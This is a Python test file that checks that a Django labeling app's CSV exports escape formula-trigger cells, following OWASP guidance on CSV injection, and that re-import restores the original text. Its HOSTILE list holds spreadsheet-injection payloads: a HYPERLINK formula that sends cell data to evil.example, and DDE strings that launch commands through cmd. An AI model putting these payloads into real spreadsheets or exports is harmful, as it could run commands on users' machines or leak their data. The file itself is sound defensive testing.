"""Exports are safe to open in a spreadsheet (OWASP, CSV injection): a text cell starting with
= + - @ tab or CR is prefixed with ', in labels.csv and in the reference CSV, and the reference
CSV's import restores the original text."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from aggregation.labelsets import artifact
from aggregation.labelsets.artifact import SplitTable
from labeling import services
from labeling.models import ReferenceLabel, Subject
from labeling.reference_csv import (
    FORMULA_TRIGGERS,
    csv_lines,
    read_reference_csv,
    spreadsheet_safe,
    spreadsheet_text,
)
from tests.conftest import token_client

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted",
           "'plain apostrophe"]

# Text that often starts with a trigger or the escape itself.
texts = st.one_of(
    st.text(max_size=20),
    st.tuples(st.sampled_from([*FORMULA_TRIGGERS, "'", "''"]), st.text(max_size=20)).map("".join),
)


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


@given(texts)
def test_a_safe_cell_never_runs_and_reads_back_as_the_text(text):
    cell = spreadsheet_safe(text)
    assert not _runs_as_formula(cell)
    assert spreadsheet_text(cell) == text


@given(st.lists(texts, min_size=1, max_size=5))
def test_no_text_cell_of_csv_lines_runs_as_a_formula_and_numbers_stay_numbers(values):
    rows = [(-7.5, -3, *values)]
    written = "".join(csv_lines(rows, header=["a", "b", *(f"t{i}" for i in range(len(values)))]))
    cells = list(csv.reader(io.StringIO(written, newline="")))[1]
    assert cells[:2] == ["-7.5", "-3"]  # numbers are not text: no formula, no escape
    assert not any(_runs_as_formula(cell) for cell in cells[2:])
    assert [spreadsheet_text(cell) for cell in cells[2:]] == values


@given(st.lists(st.sampled_from(HOSTILE) | texts.map(str.strip), min_size=1, max_size=6))
def test_a_reference_export_with_formulas_reads_back_as_the_same_text(explanations):
    rows = [(i + 1, f"ext-{i}", "ss", "real", "", explanation, "2026-01-01T00:00:00+00:00")
            for i, explanation in enumerate(explanations)]
    parsed = read_reference_csv(io.StringIO("".join(csv_lines(rows)), newline=""))
    assert parsed.problems == []
    assert [row.explanation for row in parsed.rows] == explanations


def test_labels_csv_of_a_label_set_never_runs_a_formula(tmp_path):
    size = 5
    splits = {
        "train": SplitTable(
            subject_ids=np.array([1, 2], np.int64), external_ids=("=1+2", "@SUM(A1)"),
            labels=np.array([1, 0], np.uint8), origins=np.array(["-cmd", "ss"]),
            snr=np.array([-7.25, 3.0], np.float32), p_real=np.array([0.9, 0.1], np.float32),
        ),
        "val": SplitTable(
            subject_ids=np.array([3], np.int64), external_ids=("+3",),
            labels=np.array([1], np.uint8), origins=np.array(["\tx"]),
            snr=np.array([1.0], np.float32), p_real=np.array([0.9], np.float32),
        ),
    }
    splits["test"] = SplitTable(np.array([], np.int64), (), np.array([], np.uint8),
                                np.array([], str), np.array([], np.float32),
                                np.array([], np.float32))
    artifact.write_artifact(tmp_path / "set", splits,
                            lambda ids: np.zeros((len(ids), 3, size, size), np.float32),
                            stamp_size=size, description={"scenario": "stable"})
    rows = list(csv.DictReader(io.StringIO((tmp_path / "set" / "labels.csv").read_text(),
                                           newline="")))
    assert [(r["external_id"], r["origin"], r["snr"]) for r in rows] == [
        ("'=1+2", "'-cmd", "-7.25"), ("'@SUM(A1)", "ss", "3"), ("'+3", "'\tx", "1")]


@pytest.mark.django_db
def test_the_reference_csv_download_and_command_escape_and_import_restores(tmp_path, make_user,
                                                                         subject_ids):
    ann = make_user("ann", team="rubin")
    reference_set = services.reference_set_get_or_create(
        name="rubin", team=services.expert_team_get_or_create("rubin"))
    for subject_id, explanation in zip(subject_ids, HOSTILE[:5], strict=False):
        services.reference_label_set(reference_set=reference_set,
                                     subject=Subject.objects.get(pk=subject_id), label="real",
                                     expert=ann, explanation=explanation.strip())
    response = token_client(ann).get(f"/api/reference-sets/{reference_set.pk}/labels.csv")
    downloaded = b"".join(response.streaming_content).decode()
    cells = [row["explanation"] for row in csv.DictReader(io.StringIO(downloaded, newline=""))]
    assert len(cells) == 5
    assert not any(_runs_as_formula(cell) for cell in cells)
    path = tmp_path / "export.csv"
    call_command("export_reference_labels", "--set", "rubin", "-o", str(path),
                 stdout=io.StringIO(), stderr=io.StringIO())
    assert path.read_bytes().decode() == downloaded
    ReferenceLabel.objects.filter(reference_set=reference_set).update(explanation="")
    call_command("import_reference_labels", str(path), "--set", "rubin",
                 stdout=io.StringIO(), stderr=io.StringIO())
    assert sorted(ReferenceLabel.objects.values_list("explanation", flat=True)) == sorted(
        text.strip() for text in HOSTILE[:5])
